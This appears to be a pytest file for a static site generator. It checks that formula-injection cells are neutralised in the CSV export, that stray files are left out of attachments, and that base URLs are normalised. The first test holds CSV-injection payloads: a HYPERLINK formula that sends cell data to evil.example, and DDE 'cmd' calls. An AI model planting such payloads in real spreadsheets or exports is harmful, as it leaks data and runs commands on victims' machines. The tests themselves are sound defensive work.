"""Content a careless or hostile editor may write that is still good content: it builds, and what it
holds reaches every output as text of that output's kind (issue 11)."""
import csv
import io
import re
import shutil
import xml.etree.ElementTree as ElementTree

from conftest import ROOT, build

GOOD = ROOT / "Tests" / "Fixtures" / "scorecard-site"
DATE = ("--date", "2024-04-10")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def copy_site(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(GOOD, content)
    return content


def replace(path, old, new):
    text = path.read_bytes().decode("utf-8")
    assert text.count(old) >= 1, (path, old)
    path.write_bytes(text.replace(old, new).encode("utf-8"))


def test_cells_that_spreadsheets_read_as_formulas_stay_text(tmp_path):
    content = copy_site(tmp_path)
    names = {
        "Chi bộ Văn phòng Sở": '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "Chi bộ Công ty Điện lực": "+cmd|' /C calc'!A0",
        "Đảng bộ Sở Y tế": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    for old, new in names.items():
        replace(content / "units.csv", old + ";", '"' + new.replace('"', '""') + '";')
    output = tmp_path / "public"
    result = build(content, output, *DATE)
    assert result.returncode == 0, result.stderr
    text = (output / "data" / "findings.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) > 5
    cells = [cell for row in rows for cell in row]
    live = [cell for cell in cells if cell.lstrip(" ").startswith(FORMULA_STARTS)]
    assert not live, f"cells a spreadsheet would evaluate: {live[:5]}"
    shown = {cell for cell in cells if cell.startswith("'")}
    for name in names.values():
        assert "'" + name in shown, f"{name} is not in findings.csv as text"


def test_attachments_of_allowed_kinds_are_published_and_litter_is_left_out(tmp_path):
    content = copy_site(tmp_path)
    guidance = content / "guidance"
    (guidance / "Mẫu biên bản.PDF").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    (guidance / "so-do.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(16))
    (guidance / "huong-dan.txt").write_text("Hướng dẫn\r\n\tghi biên bản\n", encoding="utf-8")
    (guidance / "Thumbs.db").write_bytes(b"\xd0\xcf\x11\xe0")
    (guidance / "~$mau.docx").write_bytes(b"\x00\x01")
    output = tmp_path / "public"
    result = build(content, output, *DATE)
    assert result.returncode == 0, result.stderr
    assert (output / "van-ban" / "mau-bien-ban.pdf").read_bytes().startswith(b"%PDF-")
    assert (output / "van-ban" / "so-do.png").is_file()
    assert (output / "van-ban" / "huong-dan.txt").is_file()
    assert not list(output.rglob("*thumbs*")) and not list(output.rglob("*mau.docx"))
    assert re.search(r"^guidance/Thumbs\.db:1:1: warning: .*not published", result.stderr, re.M)
    assert re.search(r"^guidance/~\$mau\.docx:1:1: warning: .*not published", result.stderr, re.M)


def test_urls_in_the_sitemap_and_calendar_come_from_a_checked_base_url(tmp_path):
    content = copy_site(tmp_path)
    with open(content / "site.yaml", "a", encoding="utf-8") as file:
        file.write("base_url: HTTPS://Intranet.Example:8443/so-tay/\n")
    output = tmp_path / "public"
    result = build(content, output, *DATE)
    assert result.returncode == 0, result.stderr
    tree = ElementTree.parse(output / "sitemap.xml")
    locations = [element.text for element in tree.iter("{http://www.sitemaps.org/schemas/sitemap/0.9}loc")]
    assert locations and all(re.fullmatch(r"https://intranet\.example:8443/so-tay/[\x21-\x7e]*", url)
                             for url in locations), locations[:3]
    calendar = (output / "schedule.ics").read_bytes().decode("utf-8")
    lines = calendar.split("\r\n")
    assert all("\n" not in line and "\r" not in line for line in lines)
    urls = [line for line in lines if line.startswith("URL:")]
    assert urls and all(line.startswith("URL:https://intranet.example:8443/so-tay/") for line in urls)
    assert not [line for line in lines if line.startswith("ATTENDEE")]
